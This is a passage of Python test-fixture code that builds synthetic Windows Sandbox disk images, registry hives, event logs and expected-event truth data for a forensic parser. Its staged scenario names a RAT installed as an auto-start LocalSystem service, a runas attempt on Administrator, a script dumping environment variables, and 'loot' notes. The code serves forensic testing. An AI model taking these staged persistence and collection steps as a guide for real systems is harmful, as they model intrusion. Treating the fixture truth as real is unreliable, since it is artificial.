        path = f"Files\\Windows\\System32\\winevt\\Logs\\{name}"
        files.append(pristine(path, log.to_bytes(), "evtx", second, "8750000",
                              "2024-03-04 08:20:41.2500000", evtx_events(log, path, True)))
    return files


# ------------------------------------------------------ session contents --

def session1_ntuser() -> tuple[bytes, list[dict]]:
    """WDAGUtilityAccount's NTUSER.DAT after session 1: UserAssist for
    powershell.exe and cmd.exe, RunMRU with the run.bat command line typed
    into Win+R, TypedPaths with the mapped folder's output directory."""
    profile_made = ft("2025-01-14 06:20:38.2500000")
    hive = regf.Hive(root_name="ROOT", last_written=ft("2025-01-14 07:44:58.6093750"),
                     default_time=profile_made,
                     file_name="\\??\\C:\\Users\\WDAGUtilityAccount\\ntuser.dat")
    hive.key("Environment", profile_made).set_value(
        "TEMP", regf.REG_EXPAND_SZ, "%USERPROFILE%\\AppData\\Local\\Temp")
    explorer = "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer"
    ps_run, cmd_run = ft("2025-01-14 06:21:40.5156250"), ft("2025-01-14 06:24:05.7343750")
    count_path = f"{explorer}\\UserAssist\\{USERASSIST_GUID}\\Count"
    ua = hive.key(f"{explorer}\\UserAssist\\{USERASSIST_GUID}", profile_made)
    ua.set_value("Version", regf.REG_DWORD, 5)
    count = hive.key(count_path, cmd_run)
    entries = [  # (program under the System32 known folder, runs, focus, focus ms, last run)
        ("WindowsPowerShell\\v1.0\\powershell.exe", 1, 3, 154_000, ps_run),
        ("cmd.exe", 1, 1, 4_200, cmd_run),
    ]
    events = []
    for index, (program, runs, focus, focus_ms, last) in enumerate(entries, start=1):
        raw_name = f"{SYSTEM32_FOLDER}\\{program}"
        count.set_value(rot13(raw_name), regf.REG_BINARY,
                        userassist_v5(runs, focus, focus_ms, last))
        events.append({
            "data_type": "windows:registry:userassist",
            "key_path": "HKEY_CURRENT_USER\\" + count_path,
            "value_name": f"%WINDIR%\\System32\\{program}",  # plaso's known-folder mapping
            "value_name_rot13_decoded": raw_name,
            "expanded_path": f"C:\\Windows\\System32\\{program}",
            "entry_index": index, "number_of_executions": runs,
            "application_focus_count": focus, "application_focus_duration": focus_ms,
            "timestamp": plaso_us(last), "timestamp_desc": "Last Time Executed",
            "filetime": last, "template": False})
    run_mru = hive.key(f"{explorer}\\RunMRU", cmd_run)
    command = "cmd /c C:\\Users\\WDAGUtilityAccount\\Desktop\\share\\run.bat"
    run_mru.set_value("a", regf.REG_SZ, command + "\\1")
    run_mru.set_value("MRUList", regf.REG_SZ, "a")
    events.append({
        "data_type": "windows:registry:mrulist",
        "key_path": f"HKEY_CURRENT_USER\\{explorer}\\RunMRU",
        "entries": [f"Index: 1 [MRU Value a]: {command}\\1"],
        "timestamp": plaso_us(cmd_run), "timestamp_desc": "Content Modification Time",
        "filetime": cmd_run, "template": False})
    typed = ft("2025-01-14 06:26:10.1406250")
    hive.key(f"{explorer}\\TypedPaths", typed).set_value(
        "url1", regf.REG_SZ, "C:\\Users\\WDAGUtilityAccount\\Desktop\\share\\out")
    events.append({
        "data_type": "windows:registry:typedurls",
        "key_path": f"HKEY_CURRENT_USER\\{explorer}\\TypedPaths",
        "entries": ["url1: C:\\Users\\WDAGUtilityAccount\\Desktop\\share\\out"],
        "timestamp": plaso_us(typed), "timestamp_desc": "Content Modification Time",
        "filetime": typed, "template": False})
    return hive.to_bytes(), events


def session1_security() -> EvtxLog:
    """Security.evtx inside sandbox 1: the logon (4624 + 4672), explicit
    credentials (4648, runas to the built-in Administrator) and a failed
    logon for that disabled account (4625)."""
    log = EvtxLog("Security", GUEST_COMPUTER)
    logon_id, linked = 0x2A6F1, 0x2A6F2
    logon_4624(log, ft("2025-01-14 06:20:40.1234567"), logon_id, linked)
    security_event(log, 4648, ft("2025-01-14 06:22:10.4567891"), 12544, data=[
        ("SubjectUserSid", Sid(WDAG_SID)), ("SubjectUserName", WDAG),
        ("SubjectDomainName", GUEST_COMPUTER), ("SubjectLogonId", HexInt64(logon_id)),
        ("LogonGuid", Guid("{00000000-0000-0000-0000-000000000000}")),
        ("TargetUserName", "Administrator"), ("TargetDomainName", GUEST_COMPUTER),
        ("TargetLogonGuid", Guid("{00000000-0000-0000-0000-000000000000}")),
        ("TargetServerName", "localhost"), ("TargetInfo", "localhost"),
        ("ProcessId", HexInt64(0x1F3C)), ("ProcessName", "C:\\Windows\\System32\\runas.exe"),
        ("IpAddress", "::1"), ("IpPort", "0")])
    security_event(log, 4625, ft("2025-01-14 06:23:00.7654321"), 12544, failure=True, data=[
        ("SubjectUserSid", Sid(WDAG_SID)), ("SubjectUserName", WDAG),
        ("SubjectDomainName", GUEST_COMPUTER), ("SubjectLogonId", HexInt64(logon_id)),
        ("TargetUserSid", Sid("S-1-0-0")), ("TargetUserName", "Administrator"),
        ("TargetDomainName", GUEST_COMPUTER), ("Status", HexInt32(0xC000006E)),
        ("FailureReason", "%%2310"), ("SubStatus", HexInt32(0xC0000072)),
        ("LogonType", 2), ("LogonProcessName", "seclogo"),
        ("AuthenticationPackageName", "Negotiate"), ("WorkstationName", GUEST_COMPUTER),
        ("TransmittedServices", "-"), ("LmPackageName", "-"), ("KeyLength", 0),
        ("ProcessId", SizeT(0x1A0)), ("ProcessName", "C:\\Windows\\System32\\svchost.exe"),
        ("IpAddress", "::1"), ("IpPort", "0")])
    return log


def session1_system() -> EvtxLog:
    """System.evtx inside sandbox 1: 7045 for the planted SysCacheSvc service
    (installed by WDAGUtilityAccount) and 7036 when it starts."""
    log = EvtxLog("System", GUEST_COMPUTER)
    scm_event(log, 7045, ft("2025-01-14 06:21:30.2468013"), user_sid=WDAG_SID, data=[
        ("ServiceName", "SysCacheSvc"),
        ("ImagePath", "C:\\Users\\WDAGUtilityAccount\\AppData\\Local\\Temp\\svc\\LilimRAT.exe"),
        ("ServiceType", "user mode service"), ("StartType", "auto start"),
        ("AccountName", "LocalSystem")])
    scm_event(log, 7036, ft("2025-01-14 06:21:31.1357924"), data=[
        ("param1", "SysCacheSvc"), ("param2", "running"),
        ("Binary", "SysCacheSvc/4".encode("utf-16-le"))])
    return log


def session1_sam() -> tuple[bytes, list[dict]]:
    """The guest SAM after session 1: WDAGUtilityAccount enabled, logged on
    once at 06:20:40 (the 4624)."""
    key_time = ft("2024-03-04 08:21:05.1250000")
    last_login = ft("2025-01-14 06:20:40.1234567")
    password_set = ft("2025-01-14 06:20:21.0625000")
    key_written = ft("2025-01-14 06:20:40.9062500")
    data = sam.build_sam_hive(GUEST_MACHINE_SID, builtin_accounts(
        key_time, wdag_enabled=True, wdag_login=last_login, wdag_password_set=password_set,
        wdag_key_time=key_written), key_time)
    base = {"data_type": "windows:registry:sam_users",
            "key_path": "HKEY_LOCAL_MACHINE\\SAM\\SAM\\Domains\\Account\\Users",
            "account_rid": 504, "username": WDAG, "login_count": 1,
            "comments": WDAG_COMMENT, "fullname": "", "account_enabled": True,
            "user_sid": WDAG_SID, "template": False}
    events = [dict(base, timestamp=plaso_us(last_login), timestamp_desc="Last Login Time",
                   filetime=last_login),
              dict(base, timestamp=plaso_us(password_set),
                   timestamp_desc="Last Password Set Time", filetime=password_set),
              # plaso dates last_written_time from the Names\<user> key.
              dict(base, timestamp=plaso_us(key_time), timestamp_desc="Content Modification Time",
                   filetime=key_time)]
    return data, events


def psreadline_events(path: str, data: bytes, modified: int) -> list[dict]:
    """windows:sandbox:psreadline: one event per history line, dated at the
    file's $SI modification time (the history keeps no per-line times)."""
    lines = data.decode("utf-8").splitlines()
    return [{"data_type": "windows:sandbox:psreadline", "line_number": number,
             "command": line, "history_path": "C:\\" + path,
             "timestamp": plaso_us(modified), "timestamp_desc": "Content Modification Time",
             "filetime": modified, "template": False}
            for number, line in enumerate(lines, start=1)]


def placeholder_file(path: str, layer_guid: str, created: str, entry_second: str,
                     resolves_to: str) -> InnerFile:
    """A WCI placeholder: an empty file whose reparse point names the layer
    and the layer-relative path of the real file."""
    buffer = wci_reparse_buffer(layer_guid, path)
    times = Times.of(created, created, created, entry_second)
    inner = InnerFile(path, b"", si=times, fn=Times.same(created), kind="wci_placeholder",
                      reparse=buffer)
    inner.events = [{"data_type": "windows:sandbox:wci_placeholder", "path": "C:\\" + path,
                     "reparse_tag": IO_REPARSE_TAG_WCI, "reparse_tag_hex": "0x80000018",
                     "layer_guid": layer_guid, "layer_relative_name": path,
                     "resolves_to": resolves_to, "resolved": True,
                     "timestamp": plaso_us(times.creation), "timestamp_desc": "Creation Time",
                     "filetime": times.creation, "template": False}]
    inner.info.update(reparse_data_hex=buffer.hex(), reparse_tag=IO_REPARSE_TAG_WCI)
    return inner


def session1_files() -> list[InnerFile]:
    """Session 1's writes to the sandbox volume (times: SCENARIO.md)."""
    ntuser, ntuser_events = session1_ntuser()
    sam_data, sam_events = session1_sam()
    security, system = session1_security(), session1_system()
    history = ("\r\n".join(PSREADLINE_COMMANDS) + "\r\n").encode("utf-8")
    history_path = (f"{PROFILE}\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\"
                    "ConsoleHost_history.txt")
    history_times = Times.of("2025-01-14 06:21:44.9012345", "2025-01-14 06:22:14.2345678",
                             "2025-01-14 06:22:14.2345678", "2025-01-14 06:22:15")
    tool = deterministic_zip([
        ("tool/readme.txt", b"collector v2.3\r\n"),
        ("tool/collect.ps1", b"# inert sandtrace fixture\r\nGet-ChildItem Env: | Out-File "
                             b"$PSScriptRoot\\..\\collect.log\r\n")], (2025, 1, 14, 6, 21, 50))
    logs = "Windows\\System32\\winevt\\Logs"
    files = [
        InnerFile("Windows\\System32\\config\\SAM", sam_data,
                  si=Times.of("2025-01-14 06:20:10.5000000", "2025-01-14 06:20:40.9062500",
                              "2025-01-14 06:20:40.9062500", "2025-01-14 06:20:41"),
                  fn=Times.same("2025-01-14 06:20:10.5000000"), kind="sam_hive",
                  events=sam_events),
        InnerFile(f"{logs}\\Security.evtx", security.to_bytes(),
                  si=Times.of("2025-01-14 06:20:12.0500000", "2025-01-14 07:44:59.8000000",
                              "2025-01-14 07:44:59.8000000", "2025-01-14 07:45:00"),
                  fn=Times.same("2025-01-14 06:20:12.0500000"), kind="evtx",
                  events=evtx_events(security, f"{logs}\\Security.evtx", False)),
        InnerFile(f"{logs}\\System.evtx", system.to_bytes(),
                  si=Times.of("2025-01-14 06:20:12.0600000", "2025-01-14 07:44:59.8100000",
                              "2025-01-14 07:44:59.8100000", "2025-01-14 07:45:00"),
                  fn=Times.same("2025-01-14 06:20:12.0600000"), kind="evtx",
                  events=evtx_events(system, f"{logs}\\System.evtx", False)),
        InnerFile(f"{PROFILE}\\NTUSER.DAT", ntuser,
                  si=Times.of("2025-01-14 06:20:38.2500000", "2025-01-14 07:44:58.6093750",
                              "2025-01-14 07:44:58.6093750", "2025-01-14 07:44:59"),
                  fn=Times.same("2025-01-14 06:20:38.2500000"), kind="ntuser_hive",
                  events=ntuser_events),
        # [I] The brief puts the mapped folder's run.bat on the guest disk; docs/domain.md
        # says mapped-folder writes reach only the host. Times are the host file's.
        InnerFile(f"{PROFILE}\\Desktop\\share\\run.bat", RUN_BAT,
                  si=Times.of("2025-01-14 06:12:40.1111111", "2025-01-14 06:13:02.2222222",
                              "2025-01-14 06:20:45.0000000", "2025-01-14 06:20:42"),
                  fn=Times.same("2025-01-14 06:20:41.5000000"), kind="mapped_folder_file",
                  clock=ft("2025-01-14 06:20:41")),
        InnerFile(history_path, history, si=history_times,
                  fn=Times.same("2025-01-14 06:21:44.9012345"), kind="psreadline_history",
                  events=psreadline_events(history_path, history, history_times.modification)),
        InnerFile(f"{PROFILE}\\Downloads\\tool.zip", tool,
                  si=Times.of("2025-01-14 06:21:55.1234567", "2025-01-14 06:21:57.7654321",
                              "2025-01-14 06:22:01.0000000", "2025-01-14 06:21:58"),
                  fn=Times.same("2025-01-14 06:21:55.1234567"), kind="download"),
        placeholder_file("Windows\\System32\\notepad.exe", BASE_GUID,
                         "2025-01-14 06:20:07.2500000", "2025-01-14 06:20:08",
                         "Files\\Windows\\System32\\notepad.exe"),
    ]
    return files


def session2_files() -> list[InnerFile]:
    """Session 2 (2025-01-15): a logon and one file on the Desktop."""
    security = EvtxLog("Security", GUEST_COMPUTER)
    logon_4624(security, ft("2025-01-15 10:00:20.3456789"), 0x31C07, 0x31C08)
    logs = "Windows\\System32\\winevt\\Logs"
    note = crlf("""
todo: check share\\out on host
""")
    return [
        InnerFile(f"{logs}\\Security.evtx", security.to_bytes(),
                  si=Times.of("2025-01-15 10:00:12.0500000", "2025-01-15 10:29:59.7000000",
                              "2025-01-15 10:29:59.7000000", "2025-01-15 10:30:00"),
                  fn=Times.same("2025-01-15 10:00:12.0500000"), kind="evtx",
                  events=evtx_events(security, f"{logs}\\Security.evtx", False)),
        InnerFile(f"{PROFILE}\\Desktop\\todo.txt", note,
                  si=Times.of("2025-01-15 10:05:12.6180339", "2025-01-15 10:06:01.4142135",
                              "2025-01-15 10:06:01.4142135", "2025-01-15 10:06:02"),
                  fn=Times.same("2025-01-15 10:05:12.6180339"), kind="user_file"),
    ]


def session3_files() -> list[InnerFile]:
    """Session 3 (2025-01-16, wsb.exe CLI): a standalone scratch volume with a
    WCI placeholder for cmd.exe (model (b)), a logon and the loot notes."""
    security = EvtxLog("Security", GUEST_COMPUTER)
    logon_4624(security, ft("2025-01-16 09:00:30.9876543"), 0x29A11, 0x29A12)
    logs = "Windows\\System32\\winevt\\Logs"
    notes = crlf("""
loot staged from C:\\loot (host Documents\\loot), see wsb share
- hosts.txt
- collect.log
""")
    return [
        placeholder_file("Windows\\System32\\cmd.exe", BASE_GUID,
                         "2025-01-16 09:00:05.5000000", "2025-01-16 09:00:06",
                         "Files\\Windows\\System32\\cmd.exe"),
        InnerFile(f"{logs}\\Security.evtx", security.to_bytes(),
                  si=Times.of("2025-01-16 09:00:11.0500000", "2025-01-16 09:19:50.2500000",
                              "2025-01-16 09:19:50.2500000", "2025-01-16 09:19:51"),
                  fn=Times.same("2025-01-16 09:00:11.0500000"), kind="evtx",
                  events=evtx_events(security, f"{logs}\\Security.evtx", False)),
        InnerFile(f"{PROFILE}\\Desktop\\loot\\notes.txt", notes,
                  si=Times.of("2025-01-16 09:03:17.1730000", "2025-01-16 09:04:02.7182818",
                              "2025-01-16 09:04:02.7182818", "2025-01-16 09:04:03"),
                  fn=Times.same("2025-01-16 09:03:17.1730000"), kind="user_file"),
    ]


# ------------------------------------------------------------------ truth --

def ntfs_events(files: list[InnerFile], host_path: str, tags: list[str]) -> list[dict]:
    """fs:stat:ntfs events ($SI and $FN, four times each) of the planted inner
    files, with the inner and the nested display names."""
    events = []
    for inner in files:
        for attribute_type, times in ((0x10, inner.si), (0x30, inner.fn)):
            for kind, value in times.as_dict().items():
                events.append({
                    "data_type": "fs:stat:ntfs",
                    "inner_display_name": "NTFS:\\" + inner.path,
                    "display_name": f"NTFS:{host_path}>NTFS:\\{inner.path}",
                    "timestamp": plaso_us(value), "timestamp_desc": TIME_DESC[kind],
                    "filetime": value, "attribute_type": attribute_type,
                    "is_allocated": True,
                    "file_reference": inner.info["mft_entry"] | inner.info["mft_sequence"] << 48,
                    "template": inner.template, "tags": tags})
    return events


def inner_file_truth(inner: InnerFile) -> dict:
    return {"path": "\\" + inner.path, "kind": inner.kind, "template": inner.template,
            "size": len(inner.data), "md5": hashlib.md5(inner.data).hexdigest(),
            "sha256": hashlib.sha256(inner.data).hexdigest(),
            "standard_information": {k: {"filetime": v, "timestamp": plaso_us(v),
                                         "iso8601_100ns": iso(v)}
                                     for k, v in inner.si.as_dict().items()},
            "file_name": {k: {"filetime": v, "timestamp": plaso_us(v), "iso8601_100ns": iso(v)}
                          for k, v in inner.fn.as_dict().items()},
            **inner.info}


def all_events(files: list[InnerFile], host_path: str, guid: str, tags: list[str]) -> list[dict]:
    """Every expected event from inside one disk, sorted, with the container
    attributes sandtrace must add to events from inside a sandbox disk."""
    events = ntfs_events(files, host_path, tags)
    for inner in files:
        for event in inner.events:
            events.append(dict(event, inner_display_name="NTFS:\\" + inner.path,
                               display_name=f"NTFS:{host_path}>NTFS:\\{inner.path}",
                               tags=tags + (["sandbox_template"] if event.get("template") else [])))
    for event in events:
        event.update(container_guid=guid, container_path=host_path)
        if event["template"] and "sandbox_template" not in event["tags"]:
            event["tags"] = event["tags"] + ["sandbox_template"]
    events.sort(key=lambda e: (e["timestamp"], e["display_name"], e["data_type"],
                               e["timestamp_desc"], e.get("attribute_type", 0),
                               e.get("record_number", 0), e.get("line_number", 0)))
    return events


def vhdx_truth(path: pathlib.Path) -> dict:
    """The VHDX facts a reader (or a carver) must find."""
    info = vhdx.read_info(path)
    present = [i for i, e in enumerate(info["bat"])
               if e["state"] in ("PAYLOAD_BLOCK_FULLY_PRESENT", "PAYLOAD_BLOCK_PARTIALLY_PRESENT")]
    ratio = info["chunk_ratio"]
    payload = [i for i in present if (i + 1) % (ratio + 1)]   # drop sector-bitmap entries
    block_numbers = [i - i // (ratio + 1) for i in payload]
    total = -(-info["virtual_disk_size"] // info["block_size"])
    truth = {
        "format": "VHDX", "signature": "vhdxfile", "creator": info["creator"],
        "disk_type": "differencing" if info["has_parent"] else "dynamic",
        "virtual_size": info["virtual_disk_size"], "block_size": info["block_size"],
        "logical_sector_size": info["logical_sector_size"],
        "physical_sector_size": info["physical_sector_size"],
        "disk_id": str(info["disk_id"]),
        "data_write_guid": str(info["header"]["data_write_guid"]),
        "total_blocks": total,
        "allocated_blocks": len(block_numbers),
        "allocated_block_numbers": block_numbers,
        "block_states": {str(n): info["bat"][i]["state"] for n, i in zip(block_numbers, payload)},
        "block_file_offsets": {str(n): info["bat"][i]["file_offset_mb"] * MiB
                               for n, i in zip(block_numbers, payload)},
        "sector_bitmap_blocks": len(present) - len(payload),
    }
    if info["has_parent"]:
        truth["parent_locator"] = dict(info["parent_locator"]["entries"])
    return truth


INFERENCES = [
    "[I] BaseLayer.vhdx holds an MBR disk with one NTFS partition at 1 MiB (Disk Management "
    "shows PortableBaseLayer as 8191 MB on an 8 GB disk)",
    "[I] sandbox disks 1 and 2 follow model (a), block-level differencing on the base layer; "
    "their volume is the base volume plus the session's writes (label PortableBaseLayer, "
    "Files\\ and Hives\\ inherited)",
    "[I] sandbox disk 3 follows model (b): a standalone dynamic VHDX, unlabelled scratch NTFS, "
    "unchanged files as WCI placeholders",
    "[I] WCI reparse buffer: tag, length, reserved, version u32 = 1, flags u32 = 0, layer GUID, "
    "name length u16 (bytes), UTF-16LE layer-relative name",
    "[I] the guest machine SID, the template logs' computer name MINWINPC, the Hives\\*_Delta "
    "files (plain hives here), sandbox.vmgs content and the Bindings\\config.json schema",
    "[I] run.bat on the guest Desktop\\share: the brief asks for the mapped folder's view on "
    "the guest disk; docs/domain.md says mapped-folder writes reach only the host",
    "[I] VHDX creator string 'Microsoft Windows 10.0.26100.2161'",
]

NOTES = {
    ("base_layer", "live"): "Windows Sandbox base layer (classic layout): dynamic VHDX, NTFS "
                            "PortableBaseLayer; template content only, never activity",
    ("sandbox_disk", "live"): "session 1 sandbox disk, left on disk: differencing on the "
                              "base layer",
    ("vmgs", "live"): "session 1 VM guest state file (opaque)",
    ("bindings", "live"): "session 1 Bindings\\config.json naming the base layer and mapped folder",
    ("sandbox_disk", "deleted"): "session 2 sandbox disk, deleted at close; MFT record intact",
    ("sandbox_disk", "carvable"): "session 3 sandbox disk, deleted; MFT record reused by a later "
                                  "file, clusters unallocated but intact (carve on 'vhdxfile')",
}


def host_truth(path: str, data: bytes, times: Times, state: str, deleted_at: Optional[int],
               **extra: Any) -> dict:
    extra.setdefault("note", NOTES.get((extra.get("role", ""), state), ""))
    extra.setdefault("inferences", INFERENCES)
    return {"host_path": path, "name": path.rsplit("\\", 1)[-1], "state": state,
            "is_allocated": state == "live",
            "deleted_at": None if deleted_at is None else iso(deleted_at),
            "size": len(data), "md5": hashlib.md5(data).hexdigest(),
            "sha256": hashlib.sha256(data).hexdigest(),
            "host_standard_information": {k: {"filetime": v, "timestamp": plaso_us(v),
                                              "iso8601_100ns": iso(v)}
                                          for k, v in times.as_dict().items()},
            **extra}


def planted(path: str, data: bytes, times: Times, state: str, deleted_at: Optional[int],
            truth: dict) -> PlantedFile:
    return PlantedFile(path=path, data=data, times=times.as_dict(), state=state,
                       deleted_at=deleted_at, truth=truth)


# -------------------------------------------------------------- the disks --

@dataclasses.dataclass
class BuiltDisk:
    """A built disk: its raw virtual disk, its VHDX, inner files and facts."""
    raw: pathlib.Path
    vhdx: pathlib.Path
    files: list[InnerFile]
    volume: dict


def build_volume(work: pathlib.Path, name: str, files: list[InnerFile], label: str,
                 format_time: int, mounted_at: int, unmounted_at: int,
                 start_from: Optional[pathlib.Path] = None) -> tuple[pathlib.Path, dict]:
    """Make (or copy ``start_from``), populate and patch one NTFS volume."""
    volume = work / f"{name}.ntfs"
    if start_from is None:
        format_volume(volume, label, format_time)
    else:
        shutil.copyfile(start_from, volume)
    scratch = work / f"{name}.scratch"
    scratch.mkdir()
    entries = populate(volume, files, scratch, mounted_at, unmounted_at)
    facts = volume_facts(patch_and_check(volume, files, entries), label, format_time)
    return volume, facts


def host_file(root: pathlib.Path, host_path: str) -> pathlib.Path:
    """Where a host path lives in the work tree (mirrors the host layout so
    that relative parent paths resolve)."""
    target = root / host_path.lstrip("\\").replace("\\", "/")
    target.parent.mkdir(parents=True, exist_ok=True)
    return target


def build_base_layer(work: pathlib.Path, host: pathlib.Path) -> BuiltDisk:
    """BaseLayer.vhdx: a dynamic VHDX, MBR disk, NTFS 'PortableBaseLayer'."""
    files = base_layer_files()
    volume, facts = build_volume(work, "base", files, "PortableBaseLayer", BASE_FORMAT,
                                 BASE_FORMAT, ft("2025-01-14 06:19:55"))
    raw = work / "base.raw"
    raw.write_bytes(mbr_disk(volume, MBR_SIGNATURES[BASE_GUID]))
    out = host_file(host, BASE_VHDX)
    vhdx.write_dynamic(raw, out, seed=f"sandtrace-{BASE_GUID}", creator=VHDX_CREATOR)
    return BuiltDisk(raw, out, files, facts)


def build_differencing_sandbox(work: pathlib.Path, host: pathlib.Path, base: BuiltDisk,
                               guid: str, files: list[InnerFile], mounted_at: int,
                               unmounted_at: int) -> BuiltDisk:
    """A sandbox disk as a block-level differencing VHDX on the base layer:
    the base volume, changed through ntfs-3g by the session, stored as the
    sectors that differ. [I] model (a) of docs/domain.md §2; the child's
    volume keeps the base's label and its Files\\ and Hives\\ folders."""
    base_volume = work / "base.ntfs"
    volume, facts = build_volume(work, guid, files, "PortableBaseLayer", BASE_FORMAT,
                                 mounted_at, unmounted_at, start_from=base_volume)
    raw = work / f"{guid}.raw"
    raw.write_bytes(mbr_disk(volume, MBR_SIGNATURES[BASE_GUID]))
    out = host_file(host, storage_path(guid, "sandbox.vhdx"))
    vhdx.write_differencing(raw, base.vhdx, out, parent_relative_path=BASE_VHDX_RELATIVE,
                            parent_absolute_path=BASE_VHDX_ABSOLUTE,
                            seed=f"sandtrace-{guid}", creator=VHDX_CREATOR)
    if vhdx.read_raw(out, parent_raw=base.raw.read_bytes()) != raw.read_bytes():
        raise RuntimeError(f"{guid}: differencing disk does not read back")
    return BuiltDisk(raw, out, files, facts)


def build_standalone_sandbox(work: pathlib.Path, host: pathlib.Path, guid: str,
                             files: list[InnerFile], format_time: int,
                             unmounted_at: int) -> BuiltDisk:
    """A sandbox disk as a self-contained dynamic VHDX holding a scratch NTFS
    volume with WCI placeholders (model (b)); carving can rebuild it without
    any parent. [I] the scratch volume has no label."""
    volume, facts = build_volume(work, guid, files, "", format_time, format_time, unmounted_at)
    raw = work / f"{guid}.raw"
    raw.write_bytes(mbr_disk(volume, MBR_SIGNATURES[SANDBOX3_GUID]))
    out = host_file(host, storage_path(guid, "sandbox.vhdx"))
    vhdx.write_dynamic(raw, out, seed=f"sandtrace-{guid}", creator=VHDX_CREATOR)
    if vhdx.read_raw(out) != raw.read_bytes():
        raise RuntimeError(f"{guid}: dynamic disk does not read back")
    return BuiltDisk(raw, out, files, facts)


def sandbox_vmgs() -> bytes:
    """[I] VM guest state file: opaque to sandtrace, so deterministic filler
    behind a readable marker; only its presence and times matter."""
    head = b"sandtrace vmgs placeholder (VM guest state, opaque)\n"
    return (head + hashlib.shake_256(b"sandtrace-vmgs-" + SANDBOX1_GUID.encode())
            .digest(16384))[:16384]


def bindings_config() -> bytes:
    """[I] Bindings\\config.json: LOOTEM shows the file exists, not its schema;
    this names what an examiner would want from it: the base layer, the
    sandbox disk and the mapped folder."""
    config = {
        "Id": SANDBOX1_GUID,
        "SchemaVersion": {"Major": 2, "Minor": 1},
        "Owner": "WindowsSandbox",
        "BaseLayer": {"Id": BASE_GUID, "Path": BASE_VHDX_ABSOLUTE},
        "Storage": {"Path": "C:" + storage_path(SANDBOX1_GUID, "sandbox.vhdx"),
                    "GuestStatePath": "C:" + storage_path(SANDBOX1_GUID, "sandbox.vmgs")},
        "MappedDirectories": [{
            "HostPath": "C:\\ProgramData\\SysCache\\share",
            "ContainerPath": "C:\\Users\\WDAGUtilityAccount\\Desktop\\share",
            "ReadOnly": False}],
        "Networking": {"Enabled": True},
        "MemoryInMB": 1024,
        "LogonCommand": "C:\\Users\\WDAGUtilityAccount\\Desktop\\share\\run.bat",
    }
    return (json.dumps(config, indent=2) + "\n").encode("utf-8")


# Host $SI times of the planted files (entry_modification: whole seconds).
HOST_TIMES = {
    "base": Times.of("2025-01-14 06:18:09.9000000", "2025-01-14 06:19:55.4500000",
                     "2025-01-14 06:20:14.7000000", "2025-01-14 06:19:56"),
    "s1": Times.of("2025-01-14 06:20:06.3141592", "2025-01-14 07:45:00.1234567",
                   "2025-01-14 07:45:00.1234567", "2025-01-14 07:45:01"),
    "s1_vmgs": Times.of("2025-01-14 06:20:06.4000000", "2025-01-14 07:44:59.9000000",
                        "2025-01-14 07:44:59.9000000", "2025-01-14 07:45:00"),
    "s1_config": Times.of("2025-01-14 06:20:06.2000000", "2025-01-14 06:20:06.2100000",
                          "2025-01-14 06:20:06.2100000", "2025-01-14 06:20:07"),
    "s2": Times.of("2025-01-15 10:00:03.5000000", "2025-01-15 10:30:03.7500000",
                   "2025-01-15 10:30:03.7500000", "2025-01-15 10:30:04"),
    "s3": Times.of("2025-01-16 09:00:02.7500000", "2025-01-16 09:19:58.5000000",
                   "2025-01-16 09:19:58.5000000", "2025-01-16 09:19:59"),
}
S2_DELETED = ft("2025-01-15 10:30:05")
S3_DELETED = ft("2025-01-16 09:20:00")
EXPECTED_ABSENCES = ["Prefetch", "SRUM"]  # the guest keeps neither (docs/domain.md §5)


def disk_truth(disk: BuiltDisk, guid: str, role: str, layout: str, model: str,
               session: Optional[int], tags: list[str], host_path: str,
               template_paths: Optional[list[str]] = None) -> dict:
    truth = {
        "guid": guid, "role": role, "layout": layout, "disk_model": model,
        "session": session, "vhdx": vhdx_truth(disk.vhdx),
        "parent_chain": [], "volume": disk.volume,
        "inner_files": [inner_file_truth(f) for f in disk.files],
        "expected_events": all_events(disk.files, host_path, guid, tags),
        "tags": tags,
    }
    if template_paths is not None:
        truth["inherited_template_paths"] = template_paths
    if role == "sandbox_disk":
        truth["expected_absences"] = EXPECTED_ABSENCES
    return truth


def parent_chain_truth() -> list[dict]:
    return [{"guid": BASE_GUID, "role": "base_layer", "relative_path": BASE_VHDX_RELATIVE,
             "absolute_path": BASE_VHDX_ABSOLUTE, "host_path": BASE_VHDX,
             "resolved_by": "absolute_win32_path mapped onto the host volume (C: = the volume)"}]


def build(workdir: pathlib.Path) -> list[PlantedFile]:
    """Build every Windows Sandbox storage file; return them in planting order
    (base layer, sandbox 1 and siblings, sandbox 2, sandbox 3).

    ``workdir`` receives scratch volumes and a ``host`` tree mirroring the
    host paths of the VHDX files; nothing else is touched. Needs root."""
    problems = environment_problems()
    if problems:
        raise RuntimeError("cannot build sandbox disks: " + ", ".join(problems))
    workdir = pathlib.Path(workdir)
    work, host = workdir / "scratch", workdir / "host"
    for folder in (work, host):  # ours: start clean so a rebuild gives the same bytes
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)

    base = build_base_layer(work, host)
    template_paths = ["\\" + f.path for f in base.files]
    s1 = build_differencing_sandbox(work, host, base, SANDBOX1_GUID, session1_files(),
                                    ft("2025-01-14 06:20:06"), ft("2025-01-14 07:45:00"))
    s2 = build_differencing_sandbox(work, host, base, SANDBOX2_GUID, session2_files(),
                                    ft("2025-01-15 10:00:03"), ft("2025-01-15 10:30:04"))
    s3 = build_standalone_sandbox(work, host, SANDBOX3_GUID, session3_files(),
                                  ft("2025-01-16 09:00:02"), ft("2025-01-16 09:19:58"))

    out: list[PlantedFile] = []
    data = base.vhdx.read_bytes()
    truth = disk_truth(base, BASE_GUID, "base_layer", "classic BaseImages", "base layer",
                       None, ["sandbox_template"], BASE_VHDX)
    out.append(planted(BASE_VHDX, data, HOST_TIMES["base"], "live", None,
                       host_truth(BASE_VHDX, data, HOST_TIMES["base"], "live", None, **truth)))

    s1_path = storage_path(SANDBOX1_GUID, "sandbox.vhdx")
    data = s1.vhdx.read_bytes()
    truth = disk_truth(s1, SANDBOX1_GUID, "sandbox_disk", "ContainerStorages",
                       "block-level differencing", 1, [], s1_path, template_paths)
    truth["parent_chain"] = parent_chain_truth()
    out.append(planted(s1_path, data, HOST_TIMES["s1"], "live", None,
                       host_truth(s1_path, data, HOST_TIMES["s1"], "live", None, **truth)))
    for name, role, content, key in (("sandbox.vmgs", "vmgs", sandbox_vmgs(), "s1_vmgs"),
                                     ("Bindings\\config.json", "bindings", bindings_config(),
                                      "s1_config")):
        path = storage_path(SANDBOX1_GUID, name)
        extra: dict[str, Any] = {"guid": SANDBOX1_GUID, "role": role,
                                 "layout": "ContainerStorages", "session": 1}
        if role == "bindings":
            extra["config"] = json.loads(content)
